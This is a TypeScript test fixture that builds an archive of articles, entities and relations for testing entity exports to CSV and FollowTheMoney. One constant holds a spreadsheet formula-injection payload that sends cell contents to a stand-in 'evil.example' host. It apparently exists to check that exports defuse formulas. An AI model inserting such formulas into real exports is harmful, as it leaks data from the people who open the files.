import type { ArticleDetail, Entity, Relation } from '../../shared/model'
import { importBytes, markPassage, ok, openTempEngine } from '../testing/temp-archive'

/**
 * Test support for the entity exports: a real archive with an entity of every type (a place inside a place
 * that was merged away, a dated event and one with a range, a user-defined type FollowTheMoney knows and one
 * it does not), relations of every kind with passages as evidence, Cyrillic names and a would-be
 * spreadsheet formula.
 */

const DETAINED = `Observers detained in Almaty

Roman Reimer, who leads the League of Young Voters, said two of its observers were detained by the police in Almaty.
The League of Young Voters is a member of the Civic Alliance. Reimer, who works for the League, took part in the January unrest.

A white minibus, "unmarked", took the observers away; the Law on Assemblies was cited.
`

const RUSSIAN = `Выборы в Казахстане

Роман Реймер заявил, что выборы 20 ноября прошли с нарушениями.
Наблюдатели из Джорджии тоже были в Алматы.
`

export const HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example/?"&A1)'

export function entityExportArchive() {
  const temp = openTempEngine()
  const { engine } = temp
  const imported = (name: string, text: string) => {
    const { articleId } = importBytes(engine, name, Buffer.from(text))
    return ok<ArticleDetail>(engine, 'articles.get', { id: articleId })
  }
  const detained = imported('detained.txt', DETAINED)
  ok(engine, 'articles.metadata.set', {
    id: detained.id,
    publishedAt: '2022-01-12',
    sourceUrl: 'https://example.org/news/detained?lang=en',
    siteName: 'Example News',
    byline: 'A. Reporter',
  })
  const russian = imported('vybory.txt', RUSSIAN)
  // A source that is not a URL a reader can open: kept in the CSV, not claimed as FtM's `url`.
  ok(engine, 'articles.metadata.set', {
    id: russian.id,
    publishedAt: '2022-11-21',
    sourceUrl: 'archive box 4',
  })

  const create = (fields: object) => ok<Entity>(engine, 'entities.create', fields)
  const reimer = create({
    type: 'person',
    name: 'Roman Reimer',
    aliases: ['Роман Реймер'],
    description: HOSTILE_DESCRIPTION,
    properties: { born: '1985', role: 'chair, spokesman' },
  })
  const league = create({ type: 'organisation', name: 'League of Young Voters' })
  const alliance = create({ type: 'organisation', name: 'Civic Alliance' })
  const police = create({ type: 'organisation', name: 'Almaty police' })
  const kazakhstan = create({ type: 'place', name: 'Казахстан', aliases: ['Kazakhstan'] })
  const republic = create({ type: 'place', name: 'Republic of K.' })
  const almaty = create({ type: 'place', name: 'Almaty', aliases: ['Алматы'], parentId: republic.id })
  // Almaty's parent is merged into Казахстан: the export follows the merge, as the entity page does.
  ok(engine, 'entities.merge', { id: republic.id, intoId: kazakhstan.id })
  const usa = create({ type: 'place', name: 'United States' })
  const georgia = create({ type: 'place', name: 'Georgia', parentId: usa.id })
  const election = create({ type: 'event', name: 'Snap presidential election', dateStart: '2022-11-20' })
  const unrest = create({
    type: 'event',
    name: 'January unrest',
    dateStart: '2022-01-02',
    dateEnd: '2022-01-11',
  })
  const minibus = create({ type: 'other', customType: 'Vehicle', name: 'White minibus' })
  const law = create({ type: 'other', customType: 'law', name: 'Law on Assemblies' })
  const gone = create({ type: 'person', name: 'Deleted Person' })
  ok(engine, 'entities.delete', { id: gone.id })

  const mark = (article: ArticleDetail, passage: string, entities: Entity[]) =>
    markPassage(engine, article, passage, { entityIds: entities.map((e) => e.id) })
  const leads = mark(detained, 'Roman Reimer, who leads the League of Young Voters', [reimer, league])
  const detainedBy = mark(detained, 'observers were detained by the police in Almaty', [police, almaty])
  const member = mark(detained, 'The League of Young Voters is a member of the Civic Alliance', [
    league,
    alliance,
  ])
  const worksFor = mark(detained, 'Reimer, who works for the League', [reimer])
  const tookPart = mark(detained, 'took part in the January unrest', [unrest])
  // Across paragraphs: one spreadsheet cell still.
  mark(detained, 'the January unrest.\n\nA white minibus', [minibus])
  const minibusPassage = mark(detained, 'A white minibus, "unmarked", took the observers away', [minibus])
  const lawPassage = mark(detained, 'the Law on Assemblies was cited', [law])
  const russianReimer = mark(russian, 'Роман Реймер заявил, что выборы 20 ноября прошли с нарушениями', [
    reimer,
    election,
  ])
  mark(russian, 'Наблюдатели из Джорджии', [georgia])

  const relate = (subject: Entity, type: string, object: Entity, evidence: string[] = [], note = '') =>
    ok<Relation>(engine, 'relations.create', {
      subjectId: subject.id,
      objectId: object.id,
      type,
      note,
      evidenceIds: evidence,
    })
  const relations = {
    leads: relate(reimer, 'leads', league, [leads.id], 'Chair since 2021'),
    memberOf: relate(league, 'member_of', alliance, [member.id]),
    worksFor: relate(reimer, 'works for', league, [worksFor.id]),
    tookPart: relate(reimer, 'took_part_in', unrest, [tookPart.id]),
    detainedBy: relate(league, 'detained_by', police, [detainedBy.id]),
    // Pairs the FtM schema of the type does not allow: an event is no Organization, a vehicle no Person.
    memberOfEvent: relate(reimer, 'member_of', election, [russianReimer.id]),
    vehicleWorks: relate(minibus, 'works_for', police),
    locatedIn: relate(minibus, 'located_in', almaty, [minibusPassage.id]),
    fundedBy: relate(league, 'funded by', alliance),
    // An end FtM has no schema for: in the CSV only.
    lawRelated: relate(law, 'related_to', league, [lawPassage.id]),
  }
  return {
    ...temp,
    articles: { detained, russian },
    entities: {
      reimer,
      league,
      alliance,
      police,
      kazakhstan,
      almaty,
      usa,
      georgia,
      election,
      unrest,
      minibus,
      law,
      gone,
      republic,
    },
    relations,
  }
}
